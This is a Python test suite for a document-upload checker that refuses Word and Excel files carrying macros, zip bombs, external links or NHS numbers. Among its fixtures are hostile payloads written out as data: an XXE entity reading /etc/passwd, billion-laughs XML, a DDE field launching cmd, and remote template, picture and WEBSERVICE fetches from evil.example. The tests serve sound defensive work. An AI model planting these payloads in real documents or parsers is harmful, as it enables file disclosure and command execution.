"""Word and Excel: measured before they are unpacked, read without entities; macros and what is fetched are refused."""

import io
import secrets
import zipfile

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment

from tests.evidence.making import changed, kept, packed, parts_of, with_part, workbook
from tests.keeping.documents import (
    DOCX_TYPES,
    NHS_NUMBER,
    SPACED,
    W,
    docx,
    docx_of,
    refused,
    related,
    taken,
    worded,
)

PLAIN = docx("Dear Sir", "We appeal.")
ROTA = workbook(["S-1", "midwife"])
MACROS = "this file holds macros or controls, which are programs. Save it without them, as .docx or .xlsx"
HARM = "this file unpacks to far more than a document, as files do that are made to do harm. It was not opened"
DAMAGED = "this file is damaged and cannot be unpacked. Open it, save it again as .docx or .xlsx, and send that"
UNREADABLE = "this file is written in a way that cannot be read. Open it, save it again as .docx or .xlsx, and send"
INSIDE = (
    "this file holds another one inside it that cannot be searched. Send that one by itself, and a copy of this one"
)
LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><d>&c;</d>'
XXE = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'


def flagged() -> bytes:
    """A ZIP that says that its parts need a password."""
    at = PLAIN.index(b"PK\x01\x02") + 8
    return PLAIN[:at] + b"\x01" + PLAIN[at + 1 :]


def twice() -> bytes:
    file = io.BytesIO(PLAIN)
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("WORD/document.xml", b"<d/>")
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (with_part(PLAIN, "word/media/image1.png", bytes(10_000_000)), HARM),
        (packed({**parts_of(PLAIN), **{f"x/{number}": b"" for number in range(2000)}}), HARM),
        (
            with_part(PLAIN, "word/document.xml", b"<" * 10_000_001 + secrets.token_bytes(200_000)),
            "this file holds more cells or paragraphs than any document has that a person reads. Send it in parts",
        ),
        (PLAIN[:200], DAMAGED),
        (twice(), DAMAGED),
        (flagged(), "this file is locked with a password. Open it, take the password off and save it again"),
        (with_part(PLAIN, "word/vbaProject.bin", b"x"), MACROS),
        (with_part(PLAIN, "word/activeX/activeX1.xml", b"<a/>"), MACROS),
        (
            changed(
                PLAIN,
                b"wordprocessingml.document.main+xml",
                b"ms-word.document.macroEnabled.main+xml",
                "[Content_Types].xml",
            ),
            MACROS,
        ),
        (with_part(PLAIN, "word/document.xml", LAUGHS), UNREADABLE),
        (with_part(PLAIN, "word/document.xml", XXE), UNREADABLE),
        (with_part(PLAIN, "[Content_Types].xml", XXE), UNREADABLE),
        (with_part(PLAIN, "word/_rels/document.xml.rels", XXE), UNREADABLE),
        (docx("x", customXml__item1_x_xml=LAUGHS), UNREADABLE),
        (with_part(PLAIN, "word/document.xml", b"<w:p>"), UNREADABLE),
        (docx("x", word__embeddings__oleObject1_x_bin=b"\xd0\xcf\x11\xe0"), INSIDE),
        (docx("x", word__embeddings__a_x_docx=packed({"a": b"b"})), INSIDE),
        (docx("x", word__embeddings__a_x_docx=docx("x", word__embeddings__b_x_docx=PLAIN)), INSIDE),
        (docx("x", **{f"word__embeddings__{number}_x_docx": PLAIN for number in range(21)}), INSIDE),
    ],
    ids=worded,
)
def test_a_document_that_is_no_plain_one_is_refused(data: bytes, told: str) -> None:
    assert refused("a.docx", data).startswith(told)


def test_a_workbook_with_macros_or_damage_is_refused() -> None:
    assert refused("a.xlsx", with_part(ROTA, "xl/vbaProject.bin", b"x")) == MACROS
    assert refused("a.xlsx", with_part(ROTA, "xl/macrosheets/sheet1.xml", b"<x/>")) == MACROS
    assert refused("a.xlsx", ROTA[:2000]) == DAMAGED
    assert refused("a.xlsx", changed(ROTA, b"<worksheet", b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet')).startswith(
        UNREADABLE
    )


def test_a_document_that_says_that_it_is_two_is_a_zip_file() -> None:
    both = DOCX_TYPES.replace(
        "</Types>", '<Override PartName="/xl/a" ContentType="spreadsheetml.sheet.main+xml"/></Types>'
    )
    assert "what is in it is a ZIP file" in refused("a.docx", with_part(PLAIN, "[Content_Types].xml", both.encode()))


FETCHES = (
    "this file fetches or links to something outside it ({}). Break the links or put in what they lead to, save it"
)


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        ("attachedTemplate", "http://evil.example/a.dotm", "attachedTemplate"),
        ("image", "http://evil.example/a.png", "image"),
        ("oleObject", "file:///C:/a.xlsx", "oleObject"),
        ("frame", "https://evil.example", "frame"),
        ("hyperlink", "file://server/share", "hyperlink"),
        ("hyperlink", "\\\\server\\share", "hyperlink"),
        ("hyperlink", "javascript:alert(1)", "hyperlink"),
        ("hyperlink", "http://[", "hyperlink"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(kind: str, target: str, what: str) -> None:
    data = docx("x", word___rels__document_x_xml_x_rels=related(kind, target))
    assert refused("a.docx", data).startswith(FETCHES.format(what))


def test_links_to_other_workbooks_and_connections_are_refused() -> None:
    for part in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"):
        told = refused("a.xlsx", with_part(ROTA, part, b"<x/>"))
        assert told.startswith(FETCHES.format("data of another file"))
    chunk = docx("x", word___rels__document_x_xml_x_rels=related("aFChunk", "a.html", "Internal"))
    assert refused("a.docx", chunk).startswith(FETCHES.format("another document inside it"))


def test_links_that_a_reader_may_follow_are_taken() -> None:
    for target in ("https://www.legislation.gov.uk/uksi/2013/349", "mailto:appeals@example.org", "tel:0123"):
        assert taken("a.docx", docx("x", word___rels__document_x_xml_x_rels=related("hyperlink", target))).searched
    assert taken("a.docx", docx("x", word___rels__a_x_rels=related("styles", "styles.xml", "Internal"))).searched


def runs(*texts: str, tag: str = "instrText") -> str:
    return "".join(f"<w:r><w:{tag}>{each}</w:{tag}></w:r>" for each in texts)


BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'


@pytest.mark.parametrize(
    "paragraph",
    [
        BEGIN + runs(" DDE", 'AUTO c:\\\\windows "cmd"'),
        runs("PAGE ") + BEGIN + runs("INCLUDETEXT file.docx"),
        '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png "/>',
    ],
)
def test_a_field_that_starts_or_fetches_something_is_refused_with_its_paragraph(paragraph: str) -> None:
    data = docx_of(f"<w:document {W}><w:body><w:p/><w:p>{paragraph}</w:p></w:body></w:document>")
    assert refused("a.docx", data) == (
        "this file holds a field that fetches from another file or starts a program. Take it out (paragraph 2), save "
        "it, and send that"
    )


def test_a_formula_that_fetches_is_refused_with_its_cell() -> None:
    data = workbook(["S-1", '=_xlfn.WEBSERVICE("http://evil.example")'])
    assert 'Take it out (sheet "shifts", cell B2)' in refused("a.xlsx", data)


def test_a_field_that_only_links_is_taken() -> None:
    paragraph = BEGIN + runs('HYPERLINK "https://www.nhs.uk/link"') + BEGIN + runs("PAGE")
    assert taken("a.docx", docx_of(f"<w:document {W}><w:p>{paragraph}</w:p></w:document>")).media_type


def word(paragraph: str) -> bytes:
    return docx_of(f"<w:document {W}><w:body><w:p/><w:p>{paragraph}</w:p></w:body></w:document>")


@pytest.mark.parametrize(
    "paragraph",
    [
        runs("Baby ", "999", " 000 ", "0018", tag="t"),
        runs("999", tag="t") + "<w:r><w:noBreakHyphen/></w:r>" + runs("000 0018", tag="t"),
        runs("999", tag="t") + "<w:r><w:tab/></w:r>" + runs("000 0018", tag="t"),
        runs(NHS_NUMBER, tag="delText"),
        runs(f"QUOTE {NHS_NUMBER}"),
        f'<w:r><w:drawing descr="Scan of {NHS_NUMBER}"/></w:r>',
        f"<w:r><w:txbxContent><w:p>{runs('x', tag='t')}</w:p></w:txbxContent></w:r>{runs(SPACED, tag='t')}",
    ],
)
def test_an_nhs_number_in_a_document_is_refused_with_its_paragraph(paragraph: str) -> None:
    told = refused("a.docx", word(paragraph))
    assert told.startswith("paragraph 2: here the file holds a valid NHS number.")
    assert "0018" not in told


@pytest.mark.parametrize(
    ("parts", "place"),
    [
        ({"word__header1_x_xml": f"<h {W}><w:p/><w:p>{runs(SPACED, tag='t')}</w:p></h>"}, "paragraph 2 of header1.xml"),
        ({"word__comments_x_xml": f"<c {W}><w:comment><w:p>{runs(SPACED, tag='t')}</w:p></w:comment></c>"},
         "paragraph 1 of comments.xml"),
        ({"docProps__core_x_xml": f"<about><title>About {NHS_NUMBER}</title></about>"}, "core.xml"),
        ({"word___rels__document_x_xml_x_rels": related("hyperlink", f"mailto:{NHS_NUMBER}@nhs.example").decode()},
         "document.xml.rels"),
    ],
)  # fmt: skip
def test_every_part_of_a_document_is_searched(parts: dict[str, str], place: str) -> None:
    data = docx("x", **{name: content.encode() for name, content in parts.items()})
    assert refused("a.docx", data).startswith(f"{place}: here the file holds")


def test_an_nhs_number_in_a_workbook_is_refused_with_its_sheet_and_cell() -> None:
    data = workbook(["S-1", SPACED], ["S-2", 9990000018], ["S-3", "x"], March=[["Staff"], [f"for {NHS_NUMBER}"]])
    told = refused("a.xlsx", data)
    assert told.startswith(
        'sheet "shifts", cell B2, sheet "shifts", cell B3, sheet "March", cell A2: here the file holds'
    )
    assert NHS_NUMBER not in told
    assert SPACED not in told


def with_cell(cell: str, *shared: str) -> bytes:
    """The workbook with another cell A2, and texts that cells share."""
    data = changed(ROTA, b'<c r="A2" t="inlineStr"><is><t>S-1</t></is></c>', cell.encode())
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    named = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    texts = "".join(f"<si><r><t>{text[:2]}</t></r><r><t>{text[2:]}</t></r></si>" for text in shared)
    data = changed(data, b"</Types>", named.encode(), "[Content_Types].xml")
    return with_part(data, "xl/sharedStrings.xml", f"<sst>{texts}</sst>".encode())


@pytest.mark.parametrize(
    ("data", "place"),
    [
        (with_cell('<c r="A2" t="s"><v>1</v></c>', "x", SPACED), "cell A2"),
        (with_cell('<c r="A2" t="str"><f>A1</f><v>9990000018</v></c>'), "cell A2"),
        (with_cell('<c r="A2"><f>9990000018+0</f><v>9</v></c>'), "cell A2"),
        (with_cell('<c r="A2"><v>9.990000018E9</v></c>'), "cell A2"),
        (changed(ROTA, b"</sheetData>", b"</sheetData><oddHeader>999 000 0018</oddHeader>"), "beside the cells"),
        (changed(ROTA, b"</sheetData>", b'</sheetData><hint prompt="999 000 0018"/>'), "beside the cells"),
        (changed(ROTA, b"</sheetData>", b'</sheetData><filter val="9990000018"/>'), "beside the cells"),
    ],
    ids=worded,
)
def test_formulas_headers_and_hints_of_a_sheet_are_searched_too(data: bytes, place: str) -> None:
    assert refused("a.xlsx", data).startswith(f'sheet "shifts", {place}: here the file holds')


def test_notes_names_and_what_was_deleted_from_a_workbook_are_searched() -> None:
    made = Workbook()
    made.worksheets[0]["B7"].comment = Comment(SPACED, "A. Officer")
    assert refused("a.xlsx", kept(made)).startswith("the note on cell B7 (comment1.xml): here the file holds")
    named = workbook(["S-1"])
    sheets = parts_of(named)["xl/workbook.xml"].replace(b'name="shifts"', f'name="{NHS_NUMBER}"'.encode())
    told = refused("a.xlsx", with_part(named, "xl/workbook.xml", sheets))
    assert told.startswith("workbook.xml: here the file holds")
    left = with_cell('<c r="A2" t="s"><v>0</v></c>', "x", SPACED)
    assert refused("a.xlsx", left).startswith("the texts of cells that are no longer there: here the file holds")


def test_copies_of_values_in_pivot_tables_and_variables_are_searched() -> None:
    cache = b'<pivotCacheRecords><r><n v="9990000018"/></r></pivotCacheRecords>'
    told = refused("a.xlsx", with_part(ROTA, "xl/pivotCache/pivotCacheRecords1.xml", cache))
    assert told.startswith("pivotcacherecords1.xml: here the file holds")
    variable = f'<w:settings {W}><w:docVar w:name="a" w:val="{SPACED}"/></w:settings>'.encode()
    assert refused("a.docx", docx("x", word__settings_x_xml=variable)).startswith("settings.xml: here the file holds")


def test_the_workbook_behind_a_chart_is_searched() -> None:
    within = docx("x", word__embeddings__sales_x_xlsx=workbook(["S-1", SPACED]))
    assert refused("a.docx", within).startswith('sales.xlsx, sheet "shifts", cell B2: here the file holds')
    assert taken("a.docx", docx("x", word__embeddings__sales_x_xlsx=ROTA)).searched


def test_cells_that_lead_nowhere_and_numbers_that_are_none_do_no_harm() -> None:
    for cell in ('<c r="A2" t="s"><v>99</v></c>', '<c r="A2" t="s"><v>x</v></c>', '<c r="A2"><v>1e999</v></c>'):
        assert taken("a.xlsx", with_cell(cell, "x")).searched
